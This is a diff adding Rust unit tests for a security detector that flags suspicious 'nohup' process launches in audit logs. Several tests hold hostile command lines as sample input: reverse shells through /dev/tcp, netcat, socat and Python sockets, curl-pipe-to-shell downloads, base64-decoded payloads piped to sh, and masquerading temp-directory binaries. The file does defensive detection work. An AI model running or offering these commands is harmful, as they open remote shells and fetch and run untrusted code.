@@ -1,0 +1,276 @@
+//! The nohup detector's decisions, both sides: what is found (with which target and
+//! indicators) and the look-alikes that are not.
+
+use std::sync::Arc;
+
+use super::*;
+use crate::event::{Platform, Position, Provenance};
+
+fn exec(argv: &[&str]) -> ProcessStart {
+    exec_at(argv, 100, 1, Some("/home/user"))
+}
+
+fn exec_at(argv: &[&str], pid: u32, ppid: u32, cwd: Option<&str>) -> ProcessStart {
+    let mut p = ProcessStart::new(
+        Platform::Unix,
+        Provenance {
+            path: Arc::from("audit.log"),
+            position: Position::Line(1),
+            format: "auditd",
+        },
+    );
+    p.argv = argv.iter().map(|s| s.to_string()).collect();
+    p.command_line = join_argv(&p.argv);
+    p.pid = Some(pid);
+    p.ppid = Some(ppid);
+    p.cwd = cwd.map(str::to_string);
+    p.host = "h".into();
+    p
+}
+
+fn run(events: Vec<ProcessStart>) -> Vec<Finding> {
+    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
+    let mut out = Findings::default();
+    for p in events {
+        d.observe(&Event::Process(p), &mut out);
+    }
+    out.drain()
+}
+
+fn one(argv: &[&str]) -> Finding {
+    let mut f = run(vec![exec(argv)]);
+    assert_eq!(f.len(), 1, "{argv:?} → {f:?}");
+    f.remove(0)
+}
+
+fn has(f: &Finding, names: &[&str]) {
+    for n in names {
+        assert!(
+            f.indicators.iter().any(|i| i == n),
+            "{n} missing from {:?} ({})",
+            f.indicators,
+            f.command_line
+        );
+    }
+}
+
+#[test]
+fn seed_test_1_plain_nc_is_a_network_tool() {
+    // The seed's regex misses this: atomic test 1 runs `nohup nc -lvp 14444`.
+    let f = one(&["nohup", "nc", "-lvp", "14444", "-s", "127.0.0.1"]);
+    assert_eq!(f.exec_cmd, "nohup");
+    assert_eq!(f.nohup_target, "nc");
+    assert_eq!(f.nohup_args, "-lvp 14444 -s 127.0.0.1");
+    has(&f, &["suspicious_net_tool"]);
+    assert!(f.severity >= Severity::Medium);
+    assert_eq!(f.detection_type, DetectionType::Nohup);
+}
+
+#[test]
+fn seed_test_2_temp_dir_payload() {
+    let f = one(&["nohup", "/tmp/df00tech_test_payload.sh"]);
+    has(&f, &["temp_dir_payload"]);
+    assert!(f.severity >= Severity::Medium);
+    // Relative path resolved against a temp working directory.
+    let f = run(vec![exec_at(
+        &["nohup", "./x"],
+        5,
+        1,
+        Some("/var/tmp/work"),
+    )]);
+    has(&f[0], &["temp_dir_payload"]);
+    // An interpreter given a temp script.
+    has(
+        &one(&["nohup", "bash", "/dev/shm/run.sh"]),
+        &["temp_dir_payload"],
+    );
+    has(
+        &one(&["nohup", "python3", "-u", "/tmp/x.py"]),
+        &["temp_dir_payload"],
+    );
+}
+
+#[test]
+fn wrappers_and_busybox() {
+    for argv in [
+        &["busybox", "nohup", "/tmp/x"][..],
+        &["env", "X=1", "nohup", "/tmp/x"],
+        &["setsid", "nohup", "/tmp/x"],
+        &["sudo", "-u", "root", "nohup", "/tmp/x"],
+        &["timeout", "5", "nohup", "/tmp/x"],
+        &["nice", "-n", "5", "nohup", "/tmp/x"],
+        &["stdbuf", "-oL", "nohup", "/tmp/x"],
+        &["/usr/bin/nohup", "--", "/tmp/x"],
+    ] {
+        let f = one(argv);
+        assert_eq!(f.nohup_target, "/tmp/x", "{argv:?}");
+        has(&f, &["temp_dir_payload"]);
+    }
+    assert_eq!(
+        one(&["busybox", "nohup", "/tmp/x"]).exec_cmd,
+        "busybox nohup"
+    );
+    assert_eq!(
+        one(&["/usr/bin/nohup", "/tmp/x"]).exec_cmd,
+        "/usr/bin/nohup"
+    );
+}
+
+#[test]
+fn shell_strings_show_background_and_redirections() {
+    let f = one(&["sh", "-c", "nohup /tmp/x >/dev/null 2>&1 &"]);
+    assert_eq!(f.nohup_target, "/tmp/x");
+    has(
+        &f,
+        &["temp_dir_payload", "background_exec", "output_discarded"],
+    );
+}
+
+#[test]
+fn reverse_and_interactive_shells() {
+    let f = one(&[
+        "sh",
+        "-c",
+        "nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &",
+    ]);
+    has(
+        &f,
+        &["reverse_shell", "interactive_shell", "background_exec"],
+    );
+    assert!(f.severity >= Severity::High);
+    has(
+        &one(&["nohup", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+        &["reverse_shell", "suspicious_net_tool"],
+    );
+    has(
+        &one(&["nohup", "socat", "tcp:10.0.0.1:4444", "exec:/bin/bash,pty"]),
+        &["reverse_shell"],
+    );
+    has(&one(&["nohup", "sh", "-i"]), &["interactive_shell"]);
+    has(
+        &one(&[
+            "nohup",
+            "python3",
+            "-c",
+            "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
+        ]),
+        &["reverse_shell"],
+    );
+}
+
+#[test]
+fn hidden_masquerading_downloading_encoded_persistent() {
+    let f = one(&["nohup", "/tmp/.X11-cache/kworker", "1"]);
+    has(&f, &["hidden_path", "temp_dir_payload", "masquerade_name"]);
+    assert!(f.severity >= Severity::High);
+    has(
+        &one(&["nohup", "curl", "-o", "/tmp/a", "http://x"]),
+        &["download_tool"],
+    );
+    has(
+        &one(&["nohup", "sh", "-c", "curl -s http://x/a.sh | sh"]),
+        &["download_tool"],
+    );
+    has(
+        &one(&["nohup", "sh", "-c", "echo aGk= | base64 -d | sh"]),
+        &["encoded_payload"],
+    );
+    has(
+        &one(&["nohup", "/etc/init.d/localnet"]),
+        &["persistence_path"],
+    );
+    // The genuine daemons in system directories are not masquerading.
+    let f = one(&["nohup", "/usr/sbin/sshd", "-D"]);
+    assert!(!f.indicators.iter().any(|i| i == "masquerade_name"));
+}
+
+#[test]
+fn admin_jobs_stay_low() {
+    let f = one(&[
+        "sh",
+        "-c",
+        "nohup /opt/backup/run.sh > /var/log/backup.log 2>&1 &",
+    ]);
+    assert_eq!(f.indicators, ["background_exec"]);
+    assert!(f.severity <= Severity::Low, "{:?}", f.severity);
+    let f = one(&["nohup", "java", "-jar", "/opt/app/app.jar"]);
+    assert!(f.indicators.is_empty());
+    assert_eq!(f.severity, Severity::Low);
+}
+
+#[test]
+fn look_alikes_are_not_nohup() {
+    for argv in [
+        &["grep", "nohup", "somefile"][..],
+        &["echo", "nohup", "is", "a", "command"],
+        &["sh", "-c", "echo 'nohup /tmp/x &'"],
+        &["man", "nohup"],
+        &["nohup", "--help"],
+        &["python3", "-c", "import signal; print(signal.SIGHUP)"],
+        &["vim", "/tmp/nohup.out"],
+    ] {
+        assert!(run(vec![exec(argv)]).is_empty(), "{argv:?}");
+    }
+}
+
+#[test]
+fn the_shell_string_and_the_nohup_exec_it_leads_to_are_one_finding() {
+    // sh (pid 10) forks a child (pid 11) that execs nohup; then nohup execs /tmp/x.
+    let events = vec![
+        exec_at(
+            &["sh", "-c", "nohup /tmp/x >/dev/null 2>&1 &"],
+            10,
+            1,
+            Some("/"),
+        ),
+        exec_at(&["nohup", "/tmp/x"], 11, 10, Some("/")),
+        exec_at(&["/tmp/x"], 11, 10, Some("/")),
+    ];
+    let f = run(events);
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["background_exec", "temp_dir_payload"]);
+    // The real kernel's order (scenario 04 of examples/linux): `sh` exits before its
+    // child execs nohup, so the child is re-parented to init; the login session links them.
+    let mut sh = exec_at(
+        &["sh", "-c", "nohup /tmp/z >/dev/null 2>&1 &"],
+        50,
+        1,
+        Some("/"),
+    );
+    let mut child = exec_at(&["nohup", "/tmp/z"], 51, 1, Some("/"));
+    sh.session = Some(7);
+    child.session = Some(7);
+    assert_eq!(run(vec![sh.clone(), child.clone()]).len(), 1);
+    child.session = Some(8);
+    assert_eq!(
+        run(vec![sh, child]).len(),
+        2,
+        "another session's nohup is another launch"
+    );
+    // env exec'ing nohup in the same process: one finding too.
+    let f = run(vec![
+        exec_at(&["env", "X=1", "nohup", "/tmp/y"], 20, 1, None),
+        exec_at(&["nohup", "/tmp/y"], 20, 1, None),
+    ]);
+    assert_eq!(f.len(), 1);
+    // A different launch of the same target by an unrelated process is its own finding.
+    let f = run(vec![
+        exec_at(&["nohup", "/tmp/y"], 30, 1, None),
+        exec_at(&["nohup", "/tmp/y"], 40, 2, None),
+    ]);
+    assert_eq!(f.len(), 2);
+}
+
+#[test]
+fn scheduler_lines_are_excluded_but_command_text_is_read() {
+    let mut cron = exec(&[]);
+    cron.origin = ProcessOrigin::Scheduler("CRON".into());
+    cron.command_line = "nohup /tmp/x &".into();
+    assert!(run(vec![cron]).is_empty());
+    let mut sudo = exec(&[]);
+    sudo.origin = ProcessOrigin::CommandText;
+    sudo.command_line = "nohup /tmp/.a/b &".into();
+    let f = run(vec![sudo]);
+    assert_eq!(f.len(), 1);
+    has(&f[0], &["hidden_path", "background_exec"]);
+}
